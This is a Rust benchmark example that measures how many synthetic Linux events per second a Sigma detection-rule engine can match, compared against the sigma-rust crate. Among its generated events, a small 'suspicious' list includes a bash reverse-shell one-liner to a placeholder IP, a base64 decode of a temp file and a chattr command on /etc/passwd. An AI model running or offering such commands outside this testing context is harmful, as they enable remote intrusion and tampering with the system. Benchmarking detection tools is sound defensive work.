//! Events a second on one core: all Linux rules of SigmaHQ, then some 2,500 rules, then the `sigma-rust` crate with the same
//! Linux rules on the same events, in alternating runs of which the medians are told. Events are synthetic but shaped like
//! a busy host's; one in some two hundred fires a rule.
//!
//! `cargo run --profile up -p rules --example bench_rules`

use event::{Column, Event, EventKind, Exec, Fields, File, FileEvent, FileOp, Process, Timestamp, Via};
use std::hint::black_box;
use std::path::Path;
use std::sync::Arc;
use std::time::Instant;

const EVENTS: usize = 4_096;
const ROUNDS: usize = 7;

fn main() {
    let archive = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/sigma/rules.tar.xz");
    if !archive.exists() {
        println!("skipped: the test data with SigmaHQ's rules is not there ({})", archive.display());
        return;
    }
    let folder = tempfile::tempdir().expect("a temporary folder");
    let done = std::process::Command::new("tar").arg("-C").arg(folder.path()).arg("-xf").arg(&archive).status();
    assert!(done.is_ok_and(|status| status.success()), "tar could not unpack {}", archive.display());
    let mut files = Vec::new();
    collect(folder.path(), &mut files);

    let linux: Vec<_> = files.iter().filter(|(_, text)| text.contains("product: linux")).cloned().collect();
    // Many more rules for the same events: what other systems' process rules ask for, read as if it were Linux.
    let many: Vec<_> = files
        .iter()
        .filter(|(_, text)| text.contains("category: process_creation") || text.contains("category: file_event"))
        .map(|(name, text)| {
            (
                name.clone(),
                text.replace("product: windows", "product: linux").replace("product: macos", "product: linux"),
            )
        })
        .collect();
    let started = Instant::now();
    let (linux_set, linux_report) = rules::RuleSet::compile(linux.clone());
    let compile_linux_ms = started.elapsed().as_millis();
    let started = Instant::now();
    let (many_set, many_report) = rules::RuleSet::compile(doubled(many));
    let compile_many_ms = started.elapsed().as_millis();
    println!(
        "linux: {} usable of {}; many: {} usable of {}",
        linux_report.usable, linux_report.rules, many_report.usable, many_report.rules
    );

    let events: Vec<Event> = (0..EVENTS).map(event).collect();
    let peer_rules: Vec<sigma_rust::Rule> =
        linux.iter().filter_map(|(_, text)| sigma_rust::rule_from_yaml(text).ok()).collect();
    let peer_rules: Vec<_> = peer_rules.into_iter().filter(|rule| rule.logsource.category.is_some()).collect();
    let peer_events: Vec<(&str, sigma_rust::Event)> = events.iter().map(peer_event).collect();

    let mut linux_matcher = Arc::new(linux_set).matcher();
    let mut many_matcher = Arc::new(many_set).matcher();
    let (mut ours, mut ours_many, mut peer) = (Vec::new(), Vec::new(), Vec::new());
    let mut hits = (0, 0, 0);
    for _ in 0..ROUNDS {
        ours.push(rate(20, || hits.0 = events.iter().map(|event| black_box(linux_matcher.find(event)).len()).sum()));
        ours_many
            .push(rate(10, || hits.1 = events.iter().map(|event| black_box(many_matcher.find(event)).len()).sum()));
        peer.push(rate(1, || {
            hits.2 = peer_events
                .iter()
                .map(|(category, event)| {
                    let fits = |rule: &&sigma_rust::Rule| rule.logsource.category.as_deref() == Some(category);
                    peer_rules.iter().filter(fits).filter(|rule| black_box(sigma_rust::check_rule(rule, event))).count()
                })
                .sum();
        }));
    }
    let (ours, ours_many, peer) = (median(ours), median(ours_many), median(peer));
    println!("hits: linux {}, many {}, sigma-rust {} ({} rules)", hits.0, hits.1, hits.2, peer_rules.len());
    let figures = serde_json::json!({
        "linux_rules": linux_report.usable, "linux_events_per_s": ours.round(),
        "many_rules": many_report.usable, "many_events_per_s": ours_many.round(),
        "sigma_rust_events_per_s": peer.round(), "times_sigma_rust": (ours / peer * 10.0).round() / 10.0,
        "compile_linux_ms": compile_linux_ms as u64, "compile_many_ms": compile_many_ms as u64,
    });
    let cores = std::thread::available_parallelism().map_or(0, |n| n.get());
    let machine = format!("{} {} cores", std::env::consts::ARCH, cores);
    println!("{}", serde_json::json!({"bench": "rules", "machine": machine, "figures": figures}));
}

/// To reach some 2,500 distinct rules: those there are, and a second time with one literal changed in each.
fn doubled(files: Vec<(String, String)>) -> Vec<(String, String)> {
    let again = files.iter().map(|(name, text)| {
        let text = text.replace("\nid: ", "\nid: b").replace(".exe", "_b.exe").replace("/bin/", "/bin_b/");
        (format!("{name}.b"), text)
    });
    let again: Vec<_> = again.collect();
    files.into_iter().chain(again).take(2_800).collect()
}

/// Events a second of this thread's own CPU time, so that a busy machine does not blur it.
fn rate(times: usize, mut run: impl FnMut()) -> f64 {
    let (began, started) = (cpu_nanos(), Instant::now());
    for _ in 0..times {
        run();
    }
    let wall = started.elapsed().as_nanos() as u64;
    let nanos = began.zip(cpu_nanos()).map_or(wall, |(from, to)| (to - from).max(1));
    (EVENTS * times) as f64 * 1e9 / nanos as f64
}

/// Nanoseconds that this thread has run; None where the kernel does not tell.
fn cpu_nanos() -> Option<u64> {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    text.split(' ').next()?.parse().ok()
}

fn median(mut values: Vec<f64>) -> f64 {
    values.sort_by(f64::total_cmp);
    values[values.len() / 2]
}

/// Half starts of programs, half files; a handful of each two hundred are suspicious.
fn event(n: usize) -> Event {
    const COMMANDS: [(&str, &str); 12] = [
        (
            "/usr/bin/x86_64-linux-gnu-gcc-12",
            "gcc -O2 -Wall -fstack-protector-strong -D_FORTIFY_SOURCE=2 -Iinclude -c src/parse.c -o build/parse.o",
        ),
        ("/usr/bin/git", "git -c core.quotepath=false diff --name-only HEAD~1"),
        ("/usr/bin/dash", "sh -c cd /srv/app && ./bin/report --day 2026-03-14 >> /var/log/app/report.log"),
        ("/usr/bin/grep", "grep -rn --include=*.rs needle crates/"),
        ("/usr/bin/python3.11", "/usr/bin/python3 /usr/lib/ubuntu-release-upgrader/check-new-release -q"),
        (
            "/usr/sbin/runc",
            "runc --root /var/run/docker/runtime-runc/moby --log /run/containerd/io.containerd.runtime.v2.task/moby/0a1b2c/log.json create --bundle /run/containerd/x 0a1b2c",
        ),
        ("/usr/bin/sed", "sed -e s/@VERSION@/1.2.3/g Makefile.in"),
        ("/usr/bin/ps", "ps -eo pid,ppid,user,args --sort=-pcpu"),
        ("/usr/lib/postgresql/15/bin/postgres", "postgres: autovacuum worker app"),
        ("/usr/bin/ssh", "ssh -o BatchMode=yes deploy@web-3.internal systemctl is-active app"),
        ("/usr/bin/find", "find /srv/app/cache -type f -mtime +7 -print"),
        ("/usr/bin/node", "node /srv/web/node_modules/.bin/vite build --mode production"),
    ];
    const SUSPICIOUS: [(&str, &str); 3] = [
        ("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"),
        ("/usr/bin/base64", "base64 -d /tmp/x"),
        ("/usr/bin/chattr", "chattr -i /etc/passwd"),
    ];
    let (executable, line) = if n % 200 == 7 { SUSPICIOUS[n / 200 % 3] } else { COMMANDS[n % COMMANDS.len()] };
    let process = Process {
        executable: executable.into(),
        command_line: format!("{line} {n}").into(),
        working_directory: Some("/srv/app".into()),
        user: event::User { name: Some("app".into()), ..event::User::default() },
        ..Process::default()
    };
    let parent = Process {
        executable: "/usr/bin/dash".into(),
        command_line: "/bin/sh -e /srv/app/bin/nightly".into(),
        ..Process::default()
    };
    let kind = if n.is_multiple_of(2) {
        let op = if n.is_multiple_of(4) { FileOp::Create } else { FileOp::WriteClose };
        EventKind::File(FileEvent { op, file: File::at(format!("/srv/app/cache/{}/object-{n}.json", n % 97)) })
    } else {
        EventKind::Exec(Exec { requested: executable.into(), ..Exec::default() })
    };
    Event {
        sequence: n as u64,
        time: Timestamp(n as i64),
        via: Via::Syscall,
        process: Some(Arc::new(process)),
        parent: Some(Arc::new(parent)),
        kind,
    }
}

/// The same facts under Sigma's names, made ready before the clock starts.
fn peer_event(event: &Event) -> (&'static str, sigma_rust::Event) {
    const NAMES: [(&str, Column); 7] = [
        ("Image", Column::ProcessExecutable),
        ("CommandLine", Column::ProcessCommandLine),
        ("ParentImage", Column::ParentExecutable),
        ("ParentCommandLine", Column::ParentCommandLine),
        ("CurrentDirectory", Column::ProcessWorkingDirectory),
        ("User", Column::UserName),
        ("TargetFilename", Column::FilePath),
    ];
    let facts =
        NAMES.iter().filter_map(|(name, column)| Some(((*name).to_owned(), event.field(*column)?.text().into_owned())));
    let facts: serde_json::Map<String, serde_json::Value> = facts.map(|(name, text)| (name, text.into())).collect();
    let category = if matches!(event.kind, EventKind::Exec(_)) { "process_creation" } else { "file_event" };
    let event = sigma_rust::event_from_json(&serde_json::Value::Object(facts).to_string()).expect("flat JSON");
    (category, event)
}

fn collect(folder: &Path, files: &mut Vec<(String, String)>) {
    let Ok(entries) = std::fs::read_dir(folder) else { return };
    let mut paths: Vec<_> = entries.flatten().map(|entry| entry.path()).collect();
    paths.sort();
    for path in paths {
        if path.is_dir() {
            collect(&path, files);
        } else if path.extension().is_some_and(|extension| extension == "yml") {
            files.push((path.display().to_string(), std::fs::read_to_string(&path).unwrap_or_default()));
        }
    }
}
